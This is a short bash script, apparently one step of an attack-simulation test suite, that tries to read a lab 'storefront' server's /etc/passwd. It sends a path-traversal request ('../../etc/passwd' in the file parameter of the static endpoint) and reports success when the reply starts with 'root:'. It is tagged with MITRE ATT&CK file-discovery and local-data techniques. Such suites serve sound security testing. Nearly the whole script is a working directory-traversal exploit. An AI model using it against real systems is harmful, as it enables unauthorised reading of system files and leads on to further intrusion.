#!/usr/bin/env bash
# Reads a file of the storefront outside its static folder. MITRE ATT&CK T1083, File and Directory Discovery; T1005, Data from Local System.
. "$(dirname "$0")/lib.sh"

out=$(evil get "http://storefront:8080/static?file=$(urlencode "../../etc/passwd")")
[[ $out == root:* ]] || stopped "no /etc/passwd: ${out%%$'\n'*}"
worked "read /etc/passwd: ${out%%$'\n'*}"
